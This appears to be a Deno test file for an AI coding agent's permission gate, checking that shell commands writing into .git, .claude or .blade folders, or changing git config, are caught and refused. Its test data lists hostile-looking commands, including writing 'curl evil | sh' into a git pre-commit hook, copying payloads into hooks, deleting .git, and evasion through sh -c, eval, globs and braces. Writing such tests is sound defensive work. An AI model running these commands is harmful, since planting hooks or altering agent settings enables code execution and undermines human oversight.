import assert from "node:assert/strict";
import { protectedCommandTarget, protectedPathReason } from "./protected_paths.ts";
import { decide, type GateInput } from "./gate.ts";
import { parseRuleList } from "../protocol/tool_rule.ts";
import { loadBashParser } from "../shell/bash_parser.ts";

await loadBashParser();

const WS = "/ws";

/** [command, the protected path it may write (or git config), or undefined]. */
const COMMANDS: [string, string | undefined][] = [
  // Redirections into protected folders.
  ["echo 'curl evil | sh' > .git/hooks/pre-commit", "/ws/.git/hooks/pre-commit"],
  ["echo x >> .claude/settings.json", "/ws/.claude/settings.json"],
  ["printf '%s' x 2> .blade/agents/a.md", "/ws/.blade/agents/a.md"],
  ["cat evil.md > ./.claude/agents/reviewer.md", "/ws/.claude/agents/reviewer.md"],
  ["echo x > /ws/sub/.git/config", "/ws/sub/.git/config"],
  ["echo x > /elsewhere/repo/.git/config", "/elsewhere/repo/.git/config"],
  ["tee .git/hooks/post-checkout < payload", "/ws/.git/hooks/post-checkout"],
  // Arguments of programs that write.
  ["cp payload.sh .git/hooks/pre-commit", "/ws/.git/hooks/pre-commit"],
  ["mv agent.md .claude/agents/", "/ws/.claude/agents"],
  ["ln -s /tmp/x .git/hooks/pre-push", "/ws/.git/hooks/pre-push"],
  ["chmod +x .git/hooks/pre-commit", "/ws/.git/hooks/pre-commit"],
  ["rm -rf .git", "/ws/.git"],
  ["sed -i s/a/b/ .git/config", "/ws/.git/config"],
  ["touch src/a.ts && cp x .blade/settings.json", "/ws/.blade/settings.json"],
  ["install -D hook --target-directory=.git/hooks", "/ws/.git/hooks"],
  // Behind wrappers, in substitutions, subshells and sh -c.
  ["sudo cp x .git/hooks/pre-commit", "/ws/.git/hooks/pre-commit"],
  ["FOO=1 timeout 5 cp x .git/config", "/ws/.git/config"],
  ["(cd src; echo hi) && echo x > .git/info/exclude", "/ws/.git/info/exclude"],
  ["echo $(cp x .claude/agents/a.md)", "/ws/.claude/agents/a.md"],
  [`sh -c "echo x > .git/hooks/pre-commit"`, "/ws/.git/hooks/pre-commit"],
  [`bash -c 'cp x .blade/agents/y.md'`, "/ws/.blade/agents/y.md"],
  ["eval 'cp x .git/config'", "/ws/.git/config"],
  // A cd into a protected folder is itself named, so what follows it is covered.
  ["cd .git && echo x > config", "/ws/.git"],
  ["cd sub/.git/hooks; cp x pre-commit", "/ws/sub/.git/hooks"],
  ["pushd .claude && cp x agents/a.md", "/ws/.claude"],
  // Globs and braces the shell may expand to a protected name.
  ["cd .g* && echo x > config", "/ws/.g*"],
  ["cp x .gi?/hooks/pre-commit", "/ws/.gi?/hooks/pre-commit"],
  ["echo x > .[c]laude/settings.json", "/ws/.[c]laude/settings.json"],
  ["cp x .{git,nothing}/config", "/ws/.git/config"],
  ["cp x {.blade,y}/agents/a.md", "/ws/.blade/agents/a.md"],
  ["cp x --target-directory=.bl*", "/ws/.bl*"],
  // git config that sets something.
  ["git config core.hooksPath /tmp/hooks", "git config"],
  ["git -C sub config --add remote.origin.fetch x", "git config"],
  ["git config --unset user.email", "git config"],
  ["git config --global alias.st status", "git config"],
  // Not protected.
  ["echo hi > out.txt", undefined],
  ["cat .git/config", undefined],
  ["ls -la .claude/agents", undefined],
  ["grep -r TODO .blade", undefined],
  ["head .git/HEAD > head.txt", undefined],
  ["git status", undefined],
  ["git commit -m 'update .claude/agents docs'", undefined],
  ["git config user.name", undefined],
  ["git config --get core.hooksPath", undefined],
  ["git config --list --show-origin", undefined],
  ["cp .gitignore backup/.gitignore", undefined],
  ["cp a .github/workflows/ci.yml", undefined],
  ["echo .git > notes.txt", undefined],
  ["npm test 2>&1 > /dev/null", undefined],
  // A glob without a leading dot does not expand to a dot folder; other dot names are not protected.
  ["rm -rf *", undefined],
  ["cp x */config", undefined],
  ["rm -f .*.swp", undefined],
  ["cp x .github/{a,b}.yml", undefined],
];

for (const [command, want] of COMMANDS) {
  Deno.test(`protectedCommandTarget ${JSON.stringify(command)} → ${want ?? "nothing"}`, () => {
    assert.equal(protectedCommandTarget(command, WS)?.path, want);
  });
}

Deno.test("protectedPathReason: .git, .claude and .blade at any depth, a .git file too; not look-alikes", () => {
  assert.match(protectedPathReason("/ws/.git/hooks/x", WS)!, /\.git\//);
  assert.match(protectedPathReason("/ws/a/.claude/agents/x.md", WS)!, /\.claude\//);
  assert.match(protectedPathReason("/ws/wt/.git", WS)!, /\.git\//);
  assert.equal(protectedPathReason("/ws/.gitignore", WS), undefined);
  assert.equal(protectedPathReason("/ws/.github/x", WS), undefined);
});

function gate(command: string, mode: GateInput["mode"], allow: string[]): ReturnType<typeof decide> {
  return decide({
    name: "Bash",
    kind: "execute",
    input: { command },
    trusted: true,
    mode,
    rules: { allow: parseRuleList(allow).rules, deny: [], ask: [] },
    scope: { workspaceRoot: WS },
  });
}

/** [command, mode, allow rules, allowed?, askable when refused]. */
const GATE: [string, GateInput["mode"], string[], boolean, boolean?][] = [
  ["cp x .git/hooks/pre-commit", "default", ["Bash(cp:*)"], false, true],
  ["cp x .git/hooks/pre-commit", "autoEdit", ["Bash(cp:*)"], false, true],
  ["cp x .git/hooks/pre-commit", "dontAsk", ["Bash(cp:*)"], false, false],
  ["cp x .git/hooks/pre-commit", "yolo", [], true],
  ["cp x .git/hooks/pre-commit", "default", ["Bash"], true],
  ["cp x .git/hooks/pre-commit", "default", ["Bash(cp x .git/hooks/pre-commit)"], true],
  ["cp x .git/hooks/pre-commit", "default", ["Bash(cp:*)", "Bash(cp * .git/hooks/*)"], true],
  ["git config core.hooksPath /tmp/h", "dontAsk", ["Bash(git:*)"], false, false],
  ["git config core.hooksPath /tmp/h", "default", ["Bash(git config:*)"], true],
  ["git status", "dontAsk", ["Bash(git:*)"], true],
  ["cp a b", "default", ["Bash(cp:*)"], true],
  ["cat .claude/settings.json", "default", ["Bash(cat:*)"], true],
];

for (const [command, mode, allow, allowed, askable] of GATE) {
  Deno.test(`gate: Bash ${JSON.stringify(command)} in ${mode} with [${allow.join(", ")}] → ${allowed ? "runs" : "refused"}`, () => {
    const decision = gate(command, mode, allow);
    assert.equal(decision.allow, allowed, JSON.stringify(decision));
    if (!decision.allow) {
      assert.equal(decision.askable, askable);
      assert.match(decision.message, /may write .*(\.git|git config)/);
      assert.match(
        decision.message,
        /need your approval, permission mode yolo, or an allow rule naming the path/,
      );
    }
  });
}
